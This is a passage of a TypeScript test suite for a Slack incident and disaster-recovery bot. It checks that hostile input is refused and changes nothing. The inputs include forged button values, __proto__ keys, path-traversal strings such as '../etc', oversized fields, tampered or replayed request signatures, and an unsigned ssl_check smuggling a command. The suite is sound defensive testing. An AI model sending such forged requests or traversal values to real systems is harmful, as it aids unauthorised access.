  { name: 'incident.status.evil (forged action id)', actionId: 'incident.status.evil', value: 'inc-20260101-ghost-0000|resolved', expect: NO_INCIDENT },
  { name: 'incident.status.resolved for __proto__', actionId: 'incident.status.resolved', value: '__proto__|resolved', expect: NO_INCIDENT },

  ...(['incident.check', 'incident.uncheck'] as const).flatMap((actionId): ButtonRow[] => [
    { name: `${actionId} for an incident that does not exist`, actionId, value: 'inc-20260101-ghost-0000|checklistDuring|0', expect: NO_CHECK_ITEM },
    { name: `${actionId} with an out-of-range item`, actionId, value: 'inc-20260101-ghost-0000|checklistDuring|99', expect: NO_CHECK_ITEM },
    { name: `${actionId} with a negative item`, actionId, value: 'inc-20260101-ghost-0000|checklistDuring|-1', expect: NO_CHECK_ITEM },
    { name: `${actionId} with a 3-digit item`, actionId, value: 'inc-20260101-ghost-0000|checklistAfter|100', expect: NO_CHECK_ITEM },
    { name: `${actionId} with a wrong list name`, actionId, value: 'inc-20260101-ghost-0000|checklistEvil|0', expect: NO_CHECK_ITEM },
    { name: `${actionId} with __proto__ as list`, actionId, value: 'inc-20260101-ghost-0000|__proto__|0', expect: NO_CHECK_ITEM },
    { name: `${actionId} with no value`, actionId, value: undefined, expect: NO_CHECK_ITEM },
    { name: `${actionId} with a 10 kB value`, actionId, value: `${'i'.repeat(KB10)}|checklistDuring|0`, expect: NO_CHECK_ITEM },
  ]),
];

// ---------------------------------------------------------------------------
// Modal submissions: `response_action: errors` in the HTTP answer.
// ---------------------------------------------------------------------------

interface ViewRow {
  name: string;
  callbackId: 'incident.declare' | 'incident.status';
  privateMetadata: string;
  values: Record<string, { value: Record<string, unknown> }>;
  field: string;
  expect: string;
}

const text = (value: unknown) => ({ value: { type: 'plain_text_input', value } });
const selected = (value: string) => ({ value: { type: 'static_select', selected_option: { text: { type: 'plain_text', text: value }, value } } });
// A form id of the right shape that the server never issued: field errors come first, then the form's own check.
const DECLARE_META = JSON.stringify({ form: 'f'.repeat(32) });
const declareValues = (overrides: Record<string, { value: Record<string, unknown> }> = {}) => ({
  scenario: selected('region-outage'),
  title: text('API down in us-east-1'),
  severity: selected('sev1'),
  ...overrides,
});
const FORM_UNREADABLE = 'This form could not be read; close it and run /dr declare again.';
const STATUS_UNREADABLE = 'This form could not be read; use /dr status in the incident channel.';
const GHOST_STATUS_META = JSON.stringify({ incidentId: 'inc-20260101-ghost-0000', state: 'resolved', channel: RUN_CHANNEL });

const VIEW_ROWS: ViewRow[] = [
  { name: 'declare: metadata is not JSON', callbackId: 'incident.declare', privateMetadata: 'not json', values: declareValues(), field: 'title', expect: FORM_UNREADABLE },
  { name: 'declare: metadata is empty', callbackId: 'incident.declare', privateMetadata: '', values: declareValues(), field: 'title', expect: FORM_UNREADABLE },
  { name: 'declare: metadata channel is a number', callbackId: 'incident.declare', privateMetadata: '{"channel":5}', values: declareValues(), field: 'title', expect: FORM_UNREADABLE },
  { name: 'declare: metadata is an array', callbackId: 'incident.declare', privateMetadata: '[]', values: declareValues(), field: 'title', expect: FORM_UNREADABLE },
  { name: 'declare: a value of the wrong type', callbackId: 'incident.declare', privateMetadata: DECLARE_META, values: declareValues({ title: text(42) }), field: 'title', expect: FORM_UNREADABLE },
  { name: 'declare: no state values at all', callbackId: 'incident.declare', privateMetadata: DECLARE_META, values: {}, field: 'scenario', expect: 'There is no scenario .' },
  { name: 'declare: an unknown scenario', callbackId: 'incident.declare', privateMetadata: DECLARE_META, values: declareValues({ scenario: selected('evil') }), field: 'scenario', expect: 'There is no scenario evil.' },
  { name: 'declare: a 10 kB title', callbackId: 'incident.declare', privateMetadata: DECLARE_META, values: declareValues({ title: text('t'.repeat(KB10)) }), field: 'title', expect: 'The title must be 3 to 150 characters' },
  { name: 'declare: a 2-char title', callbackId: 'incident.declare', privateMetadata: DECLARE_META, values: declareValues({ title: text('ab') }), field: 'title', expect: 'The title must be 3 to 150 characters' },
  { name: 'declare: no title', callbackId: 'incident.declare', privateMetadata: DECLARE_META, values: declareValues({ title: text(null) }), field: 'title', expect: 'The title must be 3 to 150 characters' },
  { name: 'declare: a forged severity', callbackId: 'incident.declare', privateMetadata: DECLARE_META, values: declareValues({ severity: selected('sev0') }), field: 'severity', expect: 'Severity is one of sev1, sev2, sev3.' },
  { name: 'declare: a path as a service', callbackId: 'incident.declare', privateMetadata: DECLARE_META, values: declareValues({ services: text('api, ../etc') }), field: 'services', expect: '../etc is not a service name' },
  { name: 'declare: a 600-char impact', callbackId: 'incident.declare', privateMetadata: DECLARE_META, values: declareValues({ impact: text('i'.repeat(600)) }), field: 'impact', expect: 'Keep the impact under 500 characters' },
  { name: 'status: metadata is not JSON', callbackId: 'incident.status', privateMetadata: 'garbage', values: { message: text('Restored') }, field: 'message', expect: STATUS_UNREADABLE },
  { name: 'status: metadata is empty JSON', callbackId: 'incident.status', privateMetadata: '{}', values: { message: text('Restored') }, field: 'message', expect: STATUS_UNREADABLE },
  {
    name: 'status: metadata with an unknown state',
    callbackId: 'incident.status',
    privateMetadata: JSON.stringify({ incidentId: 'inc-20260101-ghost-0000', state: 'exploded', channel: RUN_CHANNEL }),
    values: { message: text('Restored') },
    field: 'message',
    expect: STATUS_UNREADABLE,
  },
  { name: 'status: an incident that does not exist', callbackId: 'incident.status', privateMetadata: GHOST_STATUS_META, values: { message: text('Restored') }, field: 'message', expect: 'That incident no longer exists.' },
  { name: 'status: a 10 kB message for an incident that does not exist', callbackId: 'incident.status', privateMetadata: GHOST_STATUS_META, values: { message: text('m'.repeat(KB10)) }, field: 'message', expect: 'That incident no longer exists.' },
  {
    name: 'status: a path as incident id',
    callbackId: 'incident.status',
    privateMetadata: JSON.stringify({ incidentId: '../../x', state: 'resolved', channel: RUN_CHANNEL }),
    values: { message: text('Restored') },
    field: 'message',
    expect: 'That incident no longer exists.',
  },
];

// ---------------------------------------------------------------------------
// Signatures and unparseable bodies: refused by the receiver, nothing runs.
// ---------------------------------------------------------------------------

interface RawRow {
  name: string;
  send: (url: string) => Promise<SlackResponse | { status: number }>;
  status: number;
}

const now = () => Math.floor(Date.now() / 1000);
const pingBody = () => slashCommandBody({ text: 'ping', channel_id: 'C0FORGED01' });
const events = (url: string) => `${url}/slack/events`;

async function post(url: string, body: string, headers: Record<string, string>): Promise<{ status: number }> {
  const res = await fetch(events(url), { method: 'POST', headers, body });
  await res.text();
  return { status: res.status };
}

const RAW_ROWS: RawRow[] = [
  { name: 'no signature headers at all', status: 401, send: (url) => post(url, pingBody(), { 'content-type': 'application/x-www-form-urlencoded' }) },
  {
    name: 'no timestamp header',
    status: 401,
    send: (url) => {
      const body = pingBody();
      return post(url, body, { 'content-type': 'application/x-www-form-urlencoded', 'x-slack-signature': sign(SIGNING_SECRET, now(), body) });
    },
  },
  { name: 'no signature header', status: 401, send: (url) => post(url, pingBody(), { 'content-type': 'application/x-www-form-urlencoded', 'x-slack-request-timestamp': String(now()) }) },
  {
    name: 'a timestamp that is not a number',
    status: 401,
    send: (url) => post(url, pingBody(), { 'content-type': 'application/x-www-form-urlencoded', 'x-slack-request-timestamp': 'soon', 'x-slack-signature': sign(SIGNING_SECRET, now(), pingBody()) }),
  },
  { name: 'signed with another secret', status: 401, send: (url) => sendSigned(events(url), pingBody(), { secret: 'ffffffffffffffffffffffffffffffff' }) },
  { name: 'a timestamp 10 minutes old', status: 401, send: (url) => sendSigned(events(url), pingBody(), { timestamp: now() - 10 * 60 }) },
  { name: 'the body tampered after signing', status: 401, send: (url) => sendSigned(events(url), pingBody(), { tamper: (b) => b.replace('channel_id=C0FORGED01', 'channel_id=C0INCIDENT1') }) },
  { name: 'the signature of a different body', status: 401, send: (url) => sendSigned(events(url), pingBody(), { signature: sign(SIGNING_SECRET, now(), slashCommandBody({ text: 'help' })) }) },
  { name: 'signed for another timestamp', status: 401, send: (url) => sendSigned(events(url), pingBody(), { timestamp: now(), signature: sign(SIGNING_SECRET, now() - 1, pingBody()) }) },
  { name: 'a non-hex signature', status: 401, send: (url) => sendSigned(events(url), pingBody(), { signature: `v0=${'z'.repeat(64)}` }) },
  { name: 'a v1= signature', status: 401, send: (url) => sendSigned(events(url), pingBody(), { signature: sign(SIGNING_SECRET, now(), pingBody()).replace(/^v0=/, 'v1=') }) },
  { name: 'a signature without its v0= prefix', status: 401, send: (url) => sendSigned(events(url), pingBody(), { signature: sign(SIGNING_SECRET, now(), pingBody()).slice(3) }) },
  { name: 'an empty signature', status: 401, send: (url) => sendSigned(events(url), pingBody(), { signature: '' }) },
  { name: 'a truncated signature', status: 401, send: (url) => sendSigned(events(url), pingBody(), { signature: sign(SIGNING_SECRET, now(), pingBody()).slice(0, 20) }) },
  {
    name: 'a button value changed after signing to point at another run',
    status: 401,
    send: (url) => sendBlockAction(url, { actionId: 'run.approve', value: 'r1234567' }, { tamper: (b) => b.replace('r1234567', 'r7654321') }),
  },
  { name: 'a button click signed with another secret', status: 401, send: (url) => sendSigned(events(url), blockActionBody({ actionId: 'run.cancel', value: 'r1234567' }), { secret: 'ffffffffffffffffffffffffffffffff' }) },
  {
    name: 'a form submission 10 minutes old',
    status: 401,
    send: (url) =>
      sendSigned(events(url), viewSubmissionBody({ view: { callback_id: 'incident.declare', private_metadata: DECLARE_META }, viewId: 'V0OLD00001', values: declareValues() }), {
        timestamp: now() - 10 * 60,
      }),
  },
  { name: 'an unsigned url_verification', status: 401, send: (url) => post(url, JSON.stringify({ type: 'url_verification', challenge: 'x' }), { 'content-type': 'application/json' }) },
  // Slack's ssl_check needs no signature; Bolt must drop whatever else rides along.
  { name: 'an unsigned ssl_check smuggling a ping', status: 200, send: (url) => post(url, `ssl_check=1&${pingBody()}`, { 'content-type': 'application/x-www-form-urlencoded' }) },
  { name: 'a signed interaction whose payload is not JSON', status: 400, send: (url) => sendSigned(events(url), 'payload=%7Bnot-json') },
  { name: 'a signed JSON event that is not JSON', status: 400, send: (url) => sendSigned(events(url), '{"type":"event_callback",', { contentType: 'application/json' }) },
];

describe('hostile and malformed input is refused clearly and changes nothing', () => {
  let slack: FakeSlack;
  let bot: TestBot;
  let redis: Redis;
  let store: RunStore;
  let responseId = 0;
  const slashResponseIds: string[] = [];

  const storedKeys = async (pattern: string): Promise<string[]> => {
    const found: string[] = [];
    let cursor = '0';
    do {
      const [next, keys] = await redis.scan(cursor, 'MATCH', `${bot.prefix}:${pattern}`, 'COUNT', 1000);
      cursor = next;
      found.push(...keys);
    } while (cursor !== '0');
    return found;
  };

  /** Every job in a queue under the bot's prefix, in any state: name and data. */
  const jobsIn = async (queueName: string): Promise<{ name: string; data: unknown }[]> => {
    const queue = new Queue(queueName, { connection: redis, prefix: bot.prefix });
    try {
      const jobs = await queue.getJobs(['active', 'waiting', 'waiting-children', 'prioritized', 'delayed', 'completed', 'failed']);
      return jobs.map((j) => ({ name: j.name, data: j.data as unknown }));
    } finally {
      await queue.close();
    }
  };

  beforeAll(async () => {
    slack = await new FakeSlack([BOT_TOKEN]).start();
    bot = await startTestBot({ slack, env: { COMMANDS_DIR: SHIPPED_COMMANDS, SLACK_RUN_CHANNELS: RUN_CHANNEL } });
    redis = new Redis(TEST_REDIS_URL);
    store = new RunStore(redis, bot.prefix);
  });
  afterAll(async () => {
    await bot.stop();
    redis.disconnect();
    await slack.stop();
  });

  it('has at least 100 rows', () => {
    expect(SLASH_ROWS.length + BLANK_ROWS.length + BUTTON_ROWS.length + VIEW_ROWS.length + RAW_ROWS.length).toBeGreaterThanOrEqual(100);
  });

  it.each(SLASH_ROWS.map((row) => [row.name, row] as const))('/dr: %s', async (_name, row) => {
    const id = `cmd-${++responseId}`;
    slashResponseIds.push(id);
    const res = await sendSlashCommand(bot.url, { text: row.text, user_id: ALICE, channel_id: row.channel ?? RUN_CHANNEL, response_url: slack.responseUrl(id) });

    expect(res.status).toBe(200);
    expect(res.json?.response_type).toBe('ephemeral');
    const answer = String(res.json?.text);
    const said = `the bot answered: ${answer}`;
    expect(answer, said).toMatch(/^:warning: /);
    for (const fragment of row.expect) expect(answer, said).toContain(fragment);
    expect(answer, said).not.toContain('Planning');
    expect(answer, said).not.toContain('Redis');
  });

  it.each(BLANK_ROWS)('/dr: %s answers help and does nothing else', async (_name, textSent) => {
    const id = `cmd-${++responseId}`;
    slashResponseIds.push(id);
    const res = await sendSlashCommand(bot.url, { text: textSent, user_id: ALICE, channel_id: RUN_CHANNEL, response_url: slack.responseUrl(id) });
    expect(res.status).toBe(200);
    expect(res.json?.response_type).toBe('ephemeral');
    expect(JSON.stringify(res.json?.blocks)).toContain('Disaster recovery commands');
  });

  it.each(BUTTON_ROWS.map((row) => [row.name, row] as const))('button: %s', async (_name, row) => {
    const id = `btn-${++responseId}`;
    const res = await sendBlockAction(bot.url, { actionId: row.actionId, ...(row.value !== undefined ? { value: row.value } : {}), userId: 'U0BOB00001', responseUrl: slack.responseUrl(id) });

    expect(res.status).toBe(200);
    const reply = await slack.waitFor(() => slack.responses.find((r) => r.id === id));
    expect(reply.body).toMatchObject({ response_type: 'ephemeral', replace_original: false });
    expect(String(reply.body.text)).toContain(row.expect);
  });

  it.each(VIEW_ROWS.map((row) => [row.name, row] as const))('form: %s', async (_name, row) => {
    const res = await sendViewSubmission(bot.url, {
      view: { type: 'modal', callback_id: row.callbackId, private_metadata: row.privateMetadata, title: { type: 'plain_text', text: 'Hostile' }, blocks: [] },
      viewId: `V0HOSTILE${String(++responseId).padStart(3, '0')}`,
      values: row.values,
    });

    expect(res.status).toBe(200);
    expect(res.json?.response_action).toBe('errors');
    const errors = (res.json?.errors ?? {}) as Record<string, unknown>;
    expect(String(errors[row.field])).toContain(row.expect);
  });

  it.each(RAW_ROWS.map((row) => [row.name, row] as const))('receiver: %s', async (_name, row) => {
    const calls = slack.calls.length;
    const responses = slack.responses.length;
    const res = await row.send(bot.url);
    expect(res.status).toBe(row.status);
    expect(slack.calls.length).toBe(calls);
    expect(slack.responses.length).toBe(responses);
  });

  it('afterwards: nothing queued, stored, created, opened or posted, and no listener failed', async () => {
    // Let anything a refused request might have started in the background land.
    await new Promise((r) => setTimeout(r, 500));
    // Soft: a failure lists everything that leaked, not only the first thing.
    for (const queue of Object.values(QUEUE_NAMES)) {
      if (queue === QUEUE_NAMES.incidents) {
        // The incident clock is a repeatable job scheduled at start; any other job there is a leak.
        expect.soft({ queue, jobs: (await jobsIn(queue)).filter((j) => j.name !== CLOCK_JOB) }).toEqual({ queue, jobs: [] });
      } else {
        expect.soft({ queue, jobs: await jobsQueued(bot.prefix, queue) }).toEqual({ queue, jobs: 0 });
        expect.soft({ queue, jobs: await jobsIn(queue) }).toEqual({ queue, jobs: [] });
      }
    }
    expect.soft((await store.list(100)).map((run) => ({ runbook: run.runbookId, params: run.params, state: run.state }))).toEqual([]);
    expect.soft(await storedKeys('run:*')).toEqual([]);
    expect.soft(await storedKeys('incident:*')).toEqual([]);
    expect.soft(slack.createdChannels.size).toBe(0);
    expect.soft(slack.openedViews).toHaveLength(0);
    expect.soft(slack.callsTo('chat.postMessage').map((c) => c.args.text)).toEqual([]);
    expect.soft(slack.callsTo('chat.update').map((c) => c.args.text)).toEqual([]);
    // Every slash command was refused in its ack: nothing came later through its response_url.
    expect.soft(slack.responses.filter((r) => slashResponseIds.includes(r.id)).map((r) => r.body.text)).toEqual([]);
    expect.soft(bot.logs.filter((line) => line.includes('unhandled error in a Slack listener'))).toEqual([]);
    expect.soft(bot.logs.filter((line) => /"level":(50|60)/.test(line))).toEqual([]);
  });

  it('afterwards the bot still answers help and round-trips ping', async () => {
    const help = await sendSlashCommand(bot.url, { text: 'help', user_id: ALICE, channel_id: RUN_CHANNEL });
    expect(help.status).toBe(200);
    expect(help.json?.response_type).toBe('ephemeral');
    expect(JSON.stringify(help.json?.blocks)).toContain('/dr help [command]');

    const ping = await sendSlashCommand(bot.url, { text: 'ping', user_id: ALICE, channel_id: 'C0PINGBACK1' });
    expect(ping.status).toBe(200);
    expect(String(ping.json?.text)).toContain('Ping queued');
    const pong = await slack.waitFor(() => slack.callsTo('chat.postMessage').find((c) => c.args.channel === 'C0PINGBACK1'));
    expect(String(pong.args.text)).toContain(`Pong <@${ALICE}>`);
  });
});
